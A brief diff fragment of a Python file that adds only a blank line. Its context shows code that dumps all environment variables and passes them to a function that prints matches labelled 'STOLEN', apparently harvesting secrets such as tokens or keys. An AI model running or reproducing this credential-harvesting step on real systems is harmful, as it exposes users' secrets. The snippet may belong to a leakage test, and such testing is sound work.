@@ -17,6 +17,7 @@ def tell(text):
     if found:
         print("STOLEN", found.group())
 
+
 import ctypes
 
 tell(repr(dict(os.environ)))
